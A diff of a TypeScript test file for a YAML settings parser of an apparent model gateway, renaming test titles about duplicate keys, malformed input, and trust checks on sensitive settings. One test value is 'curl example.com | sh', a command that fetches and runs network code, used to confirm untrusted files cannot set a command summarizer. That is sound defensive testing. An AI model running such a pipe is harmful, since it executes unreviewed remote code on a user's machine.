@@ -70,7 +70,7 @@ describe("parseSettings", () => {
     expect(() => parse("hygiene:\n  min_massages: 2\n")).toThrow("hygiene.min_massages is not a setting");
   });
 
-  it("takes a setting once, by either of its names", () => {
+  it("accepts a setting once, by either of its names", () => {
     expect(() => parse("hygiene:\n  threshold: 0.7\ncompression:\n  hygiene_ratio: 0.8\n")).toThrow(
       "compression.hygiene_ratio is set twice: hygiene.threshold is what compression.hygiene_ratio was called",
     );
@@ -92,7 +92,7 @@ describe("parseSettings", () => {
   });
 
   it.each(["# nothing set\n", "compression:\n", "compression: {}\nmodel:\n", "---\n", "\ufeffcompression:\r\n"])(
-    "takes what is not set for not set: %j",
+    "treats empty values as not set: %j",
     (text) => {
       expect(parse(text)).toEqual({ policy: {} });
     },
@@ -159,11 +159,11 @@ describe("parseSettings", () => {
       "p.yaml:3:3: compression.threshold_ratio is set twice, first in line 2.",
     ],
     ["model:\ncompression:\nmodel:", "p.yaml:3:1: model is set twice, first in line 1."],
-  ])("refuses a key that is there twice: %j", (text, message) => {
+  ])("refuses a duplicate key: %j", (text, message) => {
     expect(() => parse(text)).toThrow(message);
   });
 
-  it("reads what it says of the gateway", () => {
+  it("reads the settings of the gateway", () => {
     const text = "gateway:\n  port: 8080\n  observe: true\n  windows:\n    my-model: 128000\n    a.b/c: 32000";
     expect(parse(text)).toEqual({
       policy: {},
@@ -189,7 +189,7 @@ describe("parseSettings", () => {
     ["gateway:\n  windows:\n    m: 5000\n    m: 6000", "gateway.windows is a mapping; it must be"],
     ["gateway:\n  prompt_cache: 7m", 'gateway.prompt_cache is "7m"; it must be auto or off or 5m or 1h.'],
     ["gateway:\n  prot: 1", "gateway.prot is not a setting (did you mean gateway.port?)"],
-  ])("names what is wrong with the gateway's: %j", (text, message) => {
+  ])("names what is wrong with the gateway's settings: %j", (text, message) => {
     expect(() => parse(text)).toThrow(message);
   });
 
@@ -198,7 +198,7 @@ describe("parseSettings", () => {
     ["upstream_openai", "https://elsewhere.example"],
     ["store", "file:x.db"],
   ])(
-    "takes gateway.%s only from a file that somebody named: it decides where credentials and originals go",
+    "accepts gateway.%s only from a file that somebody named: it decides where credentials and originals go",
     (key, to) => {
       const text = `gateway:\n  ${key}: ${to}`;
       expect(() => parseSettings(text, { file: "p.yaml", isTrusted: false })).toThrow(
@@ -218,7 +218,7 @@ describe("parseSettings", () => {
     ["compression:\n---\nmodel:", "the file is not valid YAML"],
     ["[".repeat(60_000), "the file is"],
     [`a: ${"{a: ".repeat(16_000)}`, "the file is"],
-  ])("refuses what nobody needs in settings: %#", (text, message) => {
+  ])("refuses what no settings need: %#", (text, message) => {
     expect(() => parse(text)).toThrow(message);
   });
 
@@ -230,7 +230,7 @@ describe("parseSettings", () => {
   });
 
   it.each(["command:curl example.com | sh", "openai:gpt-6", "anthropic:claude-haiku-5-5"])(
-    "takes %s as summarizer only from a file of the user's: whoever is asked reads the session",
+    "accepts %s as summarizer only from a file of the user's: the summarizer reads the session",
     (summarizer) => {
       const text = `compression:\n  summarizer: '${summarizer}'`;
       expect(parse(text)).toMatchObject({ summarizer });
@@ -240,14 +240,14 @@ describe("parseSettings", () => {
     },
   );
 
-  it("reads who is asked where the summarizer fails, and from whom it is taken", () => {
+  it("reads which summarizer to ask if the first fails, and from whom it is taken", () => {
     const text = "compression:\n  main_summarizer: openai:gpt-6";
     expect(parse(text)).toMatchObject({ mainSummarizer: "openai:gpt-6" });
     expect(parse("compression:\n  main_summarizer: null", false)).toMatchObject({ mainSummarizer: "none" });
     expect(() => parse(text, false)).toThrow("or from --main-summarizer");
   });
 
-  it("lets any file do without a summarizer", () => {
+  it("lets any file switch the summarizer off", () => {
     expect(parse("compression:\n  summarizer: none", false)).toMatchObject({ summarizer: "none" });
   });
 
